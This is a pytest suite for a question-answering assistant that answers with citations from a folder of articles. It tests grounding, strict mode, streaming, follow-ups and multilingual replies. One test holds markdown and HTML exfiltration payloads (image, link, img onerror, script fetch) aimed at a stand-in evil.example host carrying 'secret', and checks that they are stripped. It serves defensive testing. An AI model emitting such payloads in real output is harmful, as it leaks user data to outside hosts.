"""One question from end to end: what the reader gets, whatever the model writes."""

import asyncio
import json
from pathlib import Path

import jsonschema
import pytest

from assistant import Answer, Assistant, BadQuestion, ScriptedChat

SCHEMA = json.loads(
    (Path(__file__).parents[2] / "assistant" / "answer.schema.json").read_text(encoding="utf-8")
)
BRIDGE = "The bridge over the river was opened on 3 May 2021. It cost 12 million euros.\n"
PONT = "Le pont sur le fleuve a été inauguré le 3 mai 2021. Il a coûté 12 millions d'euros.\n"


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "bridge.txt").write_text(BRIDGE, encoding="utf-8")
    (folder / "pont.txt").write_text(PONT, encoding="utf-8")
    return folder


@pytest.fixture
def opened(folder, tmp_path):
    """Open the folder with a model that gives these replies, one after the other."""
    assistants = []

    def open_it(*replies, **options):
        model = ScriptedChat(list(replies)) if replies else "extract"
        options = {"model": model, "store": tmp_path / "store", **options}
        assistants.append(Assistant.open(folder, **options))
        return assistants[-1]

    yield open_it
    for assistant in assistants:
        assistant.close()


def passage_of(assistant, file, question):
    """The number under which a file's passage is shown to the model."""
    return 1 + [hit.file for hit in assistant.index.search(question, 20)].index(file)


QUESTION = "What did the bridge cost?"


def test_a_faithful_reply_becomes_a_supported_statement_with_an_exact_citation(opened, folder):
    assistant = opened("It cost 12 million euros [1].")
    answer = assistant.ask(QUESTION)
    assert not answer.declined
    assert [s.support.verdict for s in answer.statements] == ["supported"]
    (citation,) = answer.citations
    source = (folder / citation.file).read_text(encoding="utf-8")
    assert source[citation.start : citation.end] == citation.quote
    assert "12 million" in citation.quote
    assert f"[{citation.label}]" in answer.text


@pytest.mark.parametrize(
    "reply",
    [
        "It cost 21 million euros [1].",
        "It cost 12 billion euros [1].",
        "The bridge was opened by the Queen of Denmark in the rain [1].",
        "It cost 12 million euros.",
    ],
    ids=["wrong figure", "wrong scale", "invented", "uncited"],
)
def test_what_the_sources_do_not_carry_is_never_shown_as_supported(opened, reply):
    answer = opened(reply).ask(QUESTION)
    assert answer.declined
    assert answer.statements == answer.citations == ()
    assert answer.nearest


def test_strict_withholds_what_is_marked_otherwise(opened):
    reply = "It cost 12 million euros [1]. It has 900 lamps [1]."
    marked = opened(reply).ask(QUESTION)
    assert {s.support.verdict for s in marked.statements} == {"supported", "unsupported"}
    withheld = opened(reply, strict=True).ask(QUESTION)
    assert [s.support.verdict for s in withheld.statements] == ["supported"]
    assert "900" not in withheld.text
    assert withheld.notes


def test_a_model_that_declines_shows_what_comes_nearest(opened):
    assistant = opened("NOT_IN_DOCUMENTS")
    pieces = list(assistant.stream("Wer hat die Brücke entworfen?"))
    (answer,) = pieces
    assert answer.declined
    assert answer.text.startswith("Die Dokumente beantworten diese Frage nicht")
    assert {hit.file for hit in answer.nearest} <= {"bridge.txt", "pont.txt"}


def test_a_stream_gives_the_text_in_pieces_and_then_the_answer(opened):
    *pieces, answer = opened("It cost 12 million euros [1].").stream(QUESTION)
    assert "".join(pieces) == "It cost 12 million euros [1]."
    assert isinstance(answer, Answer)


EVIL = "https://evil.example/?q=secret"


@pytest.mark.parametrize(
    "reply",
    [
        f"![map]({EVIL}) It cost 12 million euros [1].",
        f"It cost [12 million]({EVIL}) euros [1].",
        f'<img src="{EVIL}" onerror=x>It <b>cost</b> 12 million euros [1].',
        f"<script>fetch('{EVIL}')</script>It cost 12 million euros [1].",
    ],
    ids=["G02-image", "G03-link", "G02-html", "G02-script"],
)
@pytest.mark.parametrize("cut", [1, 4, 1000])
def test_g02_what_a_reply_would_fetch_is_not_even_in_a_piece_of_it(opened, reply, cut):
    pieces = [reply[at : at + cut] for at in range(0, len(reply), cut)]
    *shown, answer = opened(pieces).stream(QUESTION)
    assert "".join(shown).strip() == "It cost 12 million euros [1]."
    assert answer.text == "It cost 12 million euros [1]."


def test_an_edit_shows_in_the_next_answer(opened, folder):
    assistant = opened("It cost 12 million euros [1].", "It cost 15 million euros [1].")
    assistant.ask(QUESTION)
    (folder / "bridge.txt").write_text(BRIDGE.replace("12", "15"), encoding="utf-8")
    (folder / "pont.txt").unlink()
    answer = assistant.ask(QUESTION)
    assert "15 million" in answer.citations[0].quote


def test_f15_a_follow_up_is_completed_and_shown(opened):
    assistant = opened("What did the bridge over the river cost?", "It cost 12 million euros [1].")
    history = [("user", "When was the bridge over the river opened?"), ("assistant", "On 3 May.")]
    answer = assistant.ask("And what did it cost?", history)
    assert answer.question == "And what did it cost?"
    assert answer.asked == "What did the bridge over the river cost?"
    assert answer.citations


@pytest.mark.parametrize("question", ["", "   \n", "x" * 100_000])
def test_a_question_that_is_none(opened, question):
    with pytest.raises(BadQuestion):
        opened().ask(question)


def test_d27_an_empty_folder_is_said_without_asking_a_model(tmp_path):
    (tmp_path / "empty").mkdir()
    model = ScriptedChat([])
    assistant = Assistant.open(tmp_path / "empty", store=tmp_path / "s", model=model)
    answer = assistant.ask("C'è un ponte sul fiume?")
    assert answer.declined
    assert "documenti" in answer.text
    assert answer.usage.requests == 0
    assistant.close()


def test_the_json_of_an_answer_fits_its_schema_and_comes_back(opened):
    for answer in (opened("It cost 12 million euros [1].").ask(QUESTION),
                   opened("NOT_IN_DOCUMENTS").ask(QUESTION)):  # fmt: skip
        data = json.loads(json.dumps(answer.to_dict()))
        jsonschema.validate(data, SCHEMA)
        assert Answer.from_dict(data) == answer


def test_an_answer_saved_before_there_were_disagreements_is_read(opened):
    data = opened("It cost 12 million euros [1].").ask(QUESTION).to_dict()
    del data["disagreements"]
    assert Answer.from_dict(data).disagreements == ()


def test_aask_gives_the_same_off_the_event_loop(opened):
    answer = asyncio.run(opened("It cost 12 million euros [1].").aask(QUESTION))
    assert answer.citations


def test_what_was_found_is_kept_when_the_built_in_reader_answers(opened):
    answer = opened().ask("Combien de millions d'euros le pont a-t-il coûté ?")
    assert answer.language == "fr"
    assert answer.model == "extract"
    assert any("12 million" in citation.quote for citation in answer.citations)
    assert all(s.support.verdict == "supported" for s in answer.statements)


LONG = (
    "It cost 12 million euros [1]. It has 900 golden lamps that nobody counted [1]. "
    "The bridge over the river was opened on 3 May 2021 [1]. Thank you for asking me this."
)


def in_pieces(text):
    return [text[at : at + 7] for at in range(0, len(text), 7)]


def test_strict_gives_a_sentence_when_it_has_been_judged_and_no_other(opened):
    *pieces, answer = opened(in_pieces(LONG), strict=True).stream(QUESTION)
    assert pieces[0] == "It cost 12 million euros [1]."  # long before the end
    assert len(pieces) > 1
    assert answer.text.startswith("".join(pieces))
    assert "lamps" not in "".join(pieces) + answer.text


def test_strict_waits_for_a_marker_behind_the_full_stop(opened):
    reply = "It cost 12 million euros. [1] It has 900 golden lamps that nobody counted. [1]"
    *pieces, answer = opened(in_pieces(reply), strict=True).stream(QUESTION)
    assert "".join(pieces) == answer.text == "It cost 12 million euros [1]."


def test_strict_shows_nothing_of_a_sentence_that_goes_on_falsely(opened):
    reply = "It cost 12 million euros, 40 million less than was planned in 2017 [1]. So they say."
    *pieces, answer = opened(in_pieces(reply), strict=True).stream(QUESTION)
    assert pieces == []
    assert answer.declined


@pytest.mark.parametrize(
    ("thanks", "said"),
    [("Thanks!", "welcome"), ("Merci beaucoup", "plaisir"), ("Danke schön", "Gern"),
     ("Grazie mille", "Prego")],
)  # fmt: skip
def test_thanks_are_answered_and_nothing_is_searched(opened, thanks, said):
    (answer,) = opened("It cost 12 million euros [1].").stream(thanks, [("user", QUESTION)])
    assert said in answer.text
    assert answer.declined
    assert answer.nearest == ()
    assert answer.usage.requests == 0


@pytest.mark.parametrize("history", [[("user",)], 5, "text"])
def test_g14_a_malformed_history_is_a_bad_question(opened, history):
    with pytest.raises(BadQuestion, match="history"):
        opened().ask("And in 2025?", history)


def test_a_rewriting_that_is_none_is_not_searched_for(opened):
    assistant = opened("NOT_IN_DOCUMENTS", "It cost 12 million euros [1].")
    answer = assistant.ask("And what did it cost?", [("user", "When was the bridge opened?")])
    assert "NOT_IN" not in answer.asked
    assert "bridge" in answer.asked
    assert answer.usage.requests == 2


FOREIGN = {
    "es": "¿Cuánto costó la terminal de Valverde?",
    "pt": "Quanto custou o terminal de Valverde?",
    "ru": "Сколько стоил терминал?",
}
NONE_OF_FOUR = {
    "en": "none of English, French, German and Italian",
    "fr": "ni en anglais",
    "de": "weder englisch",
    "it": "non è in inglese",
}


@pytest.mark.parametrize("reader", NONE_OF_FOUR)
@pytest.mark.parametrize("spoken", FOREIGN)
def test_B22_a_question_in_a_fifth_language_is_told_as_such(opened, spoken, reader):
    answer = opened().ask(FOREIGN[spoken], reader=reader)
    assert answer.language == reader
    assert NONE_OF_FOUR[reader] in answer.notes[0]
    assert not any(word in answer.text for word in ("Cuánto", "Quanto", "Сколько", "Valverde"))
    assert answer.citations or "documents do not answer" not in answer.text


def test_B22_nothing_is_said_to_be_lacking_from_what_cannot_be_read(tmp_path):
    (tmp_path / "f").mkdir()
    text = "Новый мост через реку открыли в понедельник утром для всех жителей Lunino."
    (tmp_path / "f" / "мост.txt").write_text(text, encoding="utf-8")
    assistant = Assistant.open(tmp_path / "f", store=tmp_path / "s")
    answer = assistant.ask("When did Anna Keller leave Lunino?")
    assert answer.declined
    assert "a language that the built-in reader does not read" in answer.text
    assert "No passage" not in answer.text
    assert answer.nearest[0].text == text
    assistant.close()
